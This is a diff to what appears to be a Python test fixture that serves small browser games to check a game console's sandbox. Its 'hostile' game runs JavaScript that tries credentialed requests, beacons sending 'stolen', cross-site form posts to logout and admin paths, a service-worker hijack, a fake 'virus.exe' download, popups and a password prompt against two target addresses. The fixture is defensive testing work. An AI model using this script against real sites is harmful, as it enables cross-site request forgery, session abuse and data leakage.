@@ -16,7 +16,8 @@ def _beep():
 
 MODULES = {
     "index.html": """<!doctype html><html><head><meta charset="utf-8"><title>Snake</title></head>
-        <body><canvas width="320" height="200"></canvas><script type="module" src="js/main.js"></script></body></html>""",
+        <body><canvas width="320" height="200"></canvas><script type="module" src="js/main.js"></script></body>
+        </html>""",
     "js/main.js": """
         import {draw} from "./draw.js";
         const level = await (await fetch("level 1.json")).json();
@@ -46,12 +47,19 @@ SAVING = {
         }</script>"""
 }
 
-ENDLESS = {"index.html": "<!doctype html><p>busy</p><script>setTimeout(() => { for (;;); }, 100)</script>"}
+# not quite for ever: no browser closes what loops
+BUSY_S = 6
+BUSY = {
+    "index.html": f"""<!doctype html><p>busy</p><script>
+        setTimeout(() => {{ const end = Date.now() + {BUSY_S * 1000}; while (Date.now() < end); }}, 200)</script>"""
+}
 
 
-def hostile(console, elsewhere):
-    """A game that tries everything against both addresses, then has in `window.tried` what came of it."""
-    targets = f"const targets = ['{console}', '{elsewhere}'];"
+def hostile(console, elsewhere, verb):
+    """A game that tries everything against both addresses and a verb of the console. `window.tried` says in the end
+    what came of it.
+    """
+    targets = f"const targets = ['{console}', '{elsewhere}'], verb = '{verb}';"
     return {
         "index.html": f"<!doctype html><body><script>{targets}</script><script src='attack.js'></script></body>",
         "sw.js": "self.addEventListener('fetch', e => e.respondWith(new Response('ours')))",
@@ -73,8 +81,13 @@ const post = (action, target) => {
 };
 const reach = async url => {
   await attempt(`fetch ${url}`, () => fetch(url, {credentials: "include"}));
-  await attempt(`post ${url}`, () => fetch(url, {method: "POST", mode: "no-cors", credentials: "include", keepalive: true}));
-  await attempt(`xhr ${url}`, () => { const x = new XMLHttpRequest(); x.open("GET", url, false); x.send(); return x.status; });
+  const silent = {method: "POST", mode: "no-cors", credentials: "include", keepalive: true};
+  await attempt(`post ${url}`, () => fetch(url, silent));
+  await attempt(`xhr ${url}`, () => {
+    const request = new XMLHttpRequest();
+    request.open("GET", url, false);
+    request.send();
+  });
   await attempt(`socket ${url}`, () => new Promise((done, failed) => {
     const socket = new WebSocket(url.replace("http", "ws"));
     socket.onopen = () => done("open");
@@ -83,11 +96,12 @@ const reach = async url => {
   await attempt(`events ${url}`, () => { new EventSource(url); return ""; });
   await attempt(`beacon ${url}`, () => { navigator.sendBeacon(url, "stolen"); return ""; });
   await attempt(`worker ${url}`, () => { new Worker("worker.js").postMessage(url); return ""; });
-  for (const tag of ["img", "script", "iframe", "embed", "video"]) await attempt(`${tag} ${url}`, () => element(tag, {src: url}) && "");
+  for (const tag of ["img", "script", "iframe", "embed", "video"]) element(tag, {src: url});
   element("object", {data: url});
   for (const rel of ["stylesheet", "prefetch", "icon", "manifest"]) element("link", {rel, href: url});
-  element("style", {textContent: `@import url(${url}); @font-face { font-family: x; src: url(${url}); } body { font-family: x; background: url(${url}); }`});
-  for (const target of ["_top", "_parent", "_blank", "_self"]) await attempt(`form ${target} ${url}`, () => post(url, target));
+  element("style", {textContent: `@import url(${url}); @font-face { font-family: x; src: url(${url}); }
+    body { font-family: x; background: url(${url}); }`});
+  for (const target of ["_top", "_parent", "_blank", "_self"]) post(url, target);
   element("a", {href: url, ping: url, target: "_blank"}).click();
 };
 (async () => {
@@ -99,11 +113,11 @@ const reach = async url => {
   await attempt("top", () => { if (framed) top.location = targets[1]; return "alone"; });
   await attempt("open", () => window.open(targets[1]));
   await attempt("dialogs", () => [alert("hello"), confirm("sure?"), prompt("password?")].join());
-  await attempt("download", () => element("a", {href: URL.createObjectURL(new Blob(["x"])), download: "virus.exe"}).click());
+  element("a", {href: URL.createObjectURL(new Blob(["x"])), download: "virus.exe"}).click();
   await attempt("worker", () => navigator.serviceWorker.register("sw.js"));
   await attempt("fullscreen", () => document.documentElement.requestFullscreen());
-  await attempt("place", () => new Promise((done, failed) => navigator.geolocation.getCurrentPosition(done, failed)));
-  for (const target of targets) for (const path of ["/accounts/logout/", "/manage/comments/1/approve/"]) await reach(target + path);
+  await attempt("place", () => new Promise((...done) => navigator.geolocation.getCurrentPosition(...done)));
+  for (const target of targets) await Promise.all(["/accounts/logout/", verb].map(path => reach(target + path)));
   window.tried = tried;
 })();
 """
